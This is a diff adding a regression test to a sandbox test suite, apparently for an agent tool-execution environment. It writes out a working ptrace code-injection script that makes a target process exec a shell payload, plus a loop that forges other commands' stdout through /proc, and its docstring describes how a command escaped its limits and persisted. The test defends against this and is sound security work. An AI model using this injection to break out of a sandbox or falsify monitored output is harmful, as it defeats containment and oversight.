@@ -7,6 +7,7 @@ import os
 import ctypes
 import platform
 import secrets
+import textwrap
 import time
 import shutil
 import socket
@@ -262,3 +263,50 @@ async def test_a_command_cannot_use_up_host_roots_inotify_instances(tmp_path):
         fd = ctypes.CDLL(None).inotify_init()
         assert fd >= 0, f"the host ran out of inotify instances while the command held {(instance.workspace / 'held').read_text()}"
         os.close(fd)
+
+
+# Attaches to a pid with ptrace and makes it execve `/bin/sh -c PAYLOAD NAME` (x86_64): strings and argv written
+# below its stack pointer, the registers pointed at the syscall instruction it is stopped after.
+INJECT = textwrap.dedent("""
+    import ctypes, os, struct, sys
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
+    pid, strings = int(sys.argv[1]), [b"/bin/sh", b"-c", sys.argv[2].encode(), sys.argv[3].encode()]
+    if libc.ptrace(16, pid, None, None) != 0:
+        sys.exit(f"attach: {os.strerror(ctypes.get_errno())}")
+    os.waitpid(pid, 0x40000000)
+    regs = (ctypes.c_ulong * 27)()
+    libc.ptrace(12, pid, None, regs)
+    assert libc.ptrace(1, pid, ctypes.c_void_p(regs[16] - 2), None) & 0xFFFF == 0x050F  # after a syscall
+    base, blob, addrs = (regs[19] - 8192) & ~15, b"", []
+    for s in strings:
+        addrs.append(base + len(blob))
+        blob += s + b"\\0"
+    argv = base + ((len(blob) + 15) & ~15)
+    blob = blob.ljust(argv - base, b"\\0") + struct.pack("5Q", *addrs, 0)
+    for i in range(0, len(blob), 8):
+        libc.ptrace(5, pid, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("Q", blob[i:i + 8].ljust(8, b"\\0"))[0]))
+    regs[16], regs[15], regs[10], regs[14], regs[13], regs[12] = regs[16] - 2, 2**64 - 1, 59, addrs[0], argv, 0
+    libc.ptrace(13, pid, None, regs)
+    libc.ptrace(17, pid, None, None)
+    print("injected")
+""")
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the injection is written for x86_64")
+async def test_a_command_cannot_ptrace_the_sandbox_init_into_a_process_that_outlives_it(tmp_path):
+    """Hole: the warm sandbox's pid 1 was bwrap's reaper: dumpable and the commands' uid, so a command ptraced it into
+    exec'ing a shell loop of its own. That loop was in the sandbox's cgroup leaf, not the command's: it outlived the
+    command (no time limit, no memory cap of a command) and wrote FORGED into every later command's stdout through
+    /proc/PID/fd/1. Now the runner, not dumpable, is pid 1 (bwrap --as-pid-1). Evidence: no process with the
+    payload's name on the host after the command returned, and the next command's output is its own."""
+    mark = "envcraft-persist-" + secrets.token_hex(4)
+    forge = "while :; do for p in /proc/[0-9]*; do grep -q victim $p/cmdline && echo FORGED > $p/fd/1; done; sleep 0.05; done"
+    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
+        await instance.client.call_tool("write_file", {"path": "inject.py", "content": INJECT})
+        await instance.client.call_tool("run_shell", {"command": "true"})
+        attack = await instance.client.call_tool("run_shell", {"command": (
+            f"for pid in 1 $(pgrep -f 'warm_[r]unner'); do python3 inject.py $pid '{forge}' {mark}; done; sleep 0.3")})
+        assert _host_processes_with(mark) == [], attack.content[0].text
+        victim = await instance.client.call_tool("run_shell", {"command": "echo victim; sleep 0.5"})
+        assert victim.content[0].text.split("stdout:\n")[1] == "victim\n", victim.content[0].text
